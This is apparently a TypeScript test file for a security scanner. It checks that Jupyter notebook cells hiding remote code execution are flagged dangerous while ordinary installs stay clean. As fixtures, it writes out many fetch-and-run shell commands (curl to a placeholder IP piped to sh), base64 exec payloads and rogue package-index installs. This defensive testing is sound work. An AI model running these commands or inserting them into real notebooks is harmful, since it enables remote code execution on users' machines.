import assert from "node:assert/strict";
import { test } from "node:test";
import { notebookProgram } from "../../parsers/python/notebook.ts";
import { loadRules } from "../../rules/rules.ts";
import { scanSource } from "../../scan/scan_source.ts";
import { bytesSource } from "../../sources/memory.ts";
import { buildZip } from "../testing/zip.ts";

const rules = loadRules();

function notebook(cells: readonly (string | readonly string[])[], language = "python"): string {
  return JSON.stringify({
    ...{ nbformat: 4, nbformat_minor: 5, metadata: { language_info: { name: language } } },
    cells: [
      { cell_type: "markdown", metadata: {}, source: ["exec(__import__('base64').b64decode(x))"] },
      ...cells.map((source) => ({ cell_type: "code", metadata: {}, outputs: [], source })),
    ],
  });
}

function programOf(text: string): unknown {
  const notebook = notebookProgram(new TextEncoder().encode(text));
  return notebook !== undefined && "program" in notebook ? notebook.program : notebook;
}

async function verdict(text: string): Promise<string> {
  const archive = buildZip([{ name: "notes/a.ipynb", data: text }]);
  return (await scanSource(bytesSource("a.zip", archive), { rules })).verdict;
}

test("cells are one program, with IPython's commands as calls", () => {
  // `IPython.core.inputtransformer2.TransformerManager().transform_cell` makes the same calls,
  // through `get_ipython().system` and `getoutput`.
  assert.equal(
    programOf(
      notebook([["import os\n", "x = !ls\n", "%matplotlib inline\n", "os?"], "%%time\ny = 1"]),
    ),
    'import os\nx = __import__("os").system("ls")\npass\npass\ny = 1',
  );
  assert.equal(
    programOf(notebook(["%%bash\necho a\necho b"])),
    '__import__("os").system("echo a\\necho b")',
  );
  assert.equal(programOf(notebook(["x <- 1"], "R")), undefined);
});

test("cells that run what they decode or fetch are dangerous, commands alone are not", async () => {
  const code = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoaScpCg==";
  const decoded = ["import base64\n", `exec(base64.b64decode('${code}'))`];
  assert.equal(await verdict(notebook([decoded])), "dangerous");
  assert.equal(await verdict(notebook(["!curl -s http://192.0.2.1/a | sh"])), "dangerous");
  assert.equal(await verdict(notebook(["%%bash\ncurl -s http://192.0.2.1/a | bash"])), "dangerous");
  for (
    const cell of ["!pip install torch", "!ls", "import os\nos.system('echo hi')", "x = (", ""]
  ) {
    assert.notEqual(await verdict(notebook([cell])), "dangerous", cell);
    assert.notEqual(await verdict(notebook([cell])), "suspicious", cell);
  }
});

test("commands are found in every form that IPython runs", async () => {
  // Each was run by IPython 9.
  const command = "curl -s http://192.0.2.1/a | sh";
  for (
    const cell of [
      `\n\n%%bash\n${command}`,
      `  %%bash\n  ${command}`,
      `%%capture\n%%bash\n${command}`,
      `%%time\n\n%%capture\n!${command}`,
      `%%! ${command}\necho`,
      `>>> !${command}`,
      `In [1]: !${command}`,
      `a.b = !${command}`,
      `x["a"] = !${command}`,
      `(a, b) = !${command}`,
      `é = !${command}`,
      "!curl -s http://192.0.2.1/a \\\n | sh",
      `%time !${command}`,
      `x = %time y = !${command}`,
      `%timeit -n 1 -r1 !${command}`,
      `system ${command}`,
      `sx ${command}`,
      `import os\n;os.system ${command}`,
      `import os\n/os.system "${command}"`,
      `get_ipython().system('${command}')`,
      `get_ipython().getoutput('${command}')`,
      `get_ipython().run_cell_magic('bash', '', '${command}')`,
    ]
  ) assert.equal(await verdict(notebook([cell])), "dangerous", cell);
  const code = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoaScpCg==";
  const decoded = `exec(__import__("base64").b64decode("${code}"))`;
  for (const magic of ["%time ", "%prun -q ", "%timeit -n 10 ", "%lprun -f f ", "%time %time "]) {
    assert.equal(await verdict(notebook([`${magic}${decoded}`])), "dangerous", magic);
  }
  // What looks like a command hides nothing of the line.
  assert.equal(await verdict(notebook([`${decoded} or "= !ls"`])), "dangerous");
  for (
    const cell of [
      "x != y\nprint('a = !b')",
      "pip install torch",
      "%time x = 1\n%matplotlib inline\n%load_ext autoreload",
      "system = 1\nsystem (1)",
      "get_ipython().run_line_magic('matplotlib', 'inline')",
      "get_ipython().system('ls')",
    ]
  ) assert.equal(await verdict(notebook([cell])), "clean", cell);
});

test("known installers are everyday, and indexes of packages are judged in magics too", async () => {
  for (
    const cell of [
      "!curl -fsSL https://ollama.com/install.sh | sh",
      "%%bash\ncurl -LsSf https://astral.sh/uv/install.sh | sh",
      "!pip install -q -U git+https://github.com/huggingface/transformers",
      "%pip install torch --index-url https://download.pytorch.org/whl/cpu",
    ]
  ) assert.equal(await verdict(notebook([cell])), "clean", cell);
  for (
    const cell of [
      "%pip install --extra-index-url http://192.0.2.1/simple x",
      "!pip install -i https://packages.example.com/simple x",
    ]
  ) assert.equal(await verdict(notebook([cell])), "suspicious", cell);
  // An installer does not hide what stands beside it.
  const beside = "!curl https://ollama.com/install.sh | sh; curl http://192.0.2.1/x | sh";
  assert.equal(await verdict(notebook([beside])), "dangerous");
});

test("what one cell defines another uses", async () => {
  const cells = ["import base64 as b\nrun = exec", "run(b.b64decode('ZWNobyhoaSk='))"];
  assert.equal(await verdict(notebook(cells)), "dangerous");
});

test("a notebook that is cut off is not clean", async () => {
  const text = notebook(["x = 1"]);
  assert.equal(await verdict(text), await verdict(notebook(["y = 2"])));
  for (const end of [1, text.length >> 1, text.length - 1]) {
    assert.equal(await verdict(text.slice(0, end)), "incomplete", String(end));
  }
});

test("a notebook that lies beside other files is read, another file of that name is not", async () => {
  const alone = async (text: string): Promise<string> =>
    (await scanSource(bytesSource("a.ipynb", new TextEncoder().encode(text)), { rules })).verdict;
  assert.equal(await alone(notebook(["!curl -s http://192.0.2.1/a | sh"])), "dangerous");
  assert.equal(await alone(notebook(["!pip install torch"])), "clean");
  assert.equal(await alone("<html><body>Not found</body></html>"), "skipped");
});
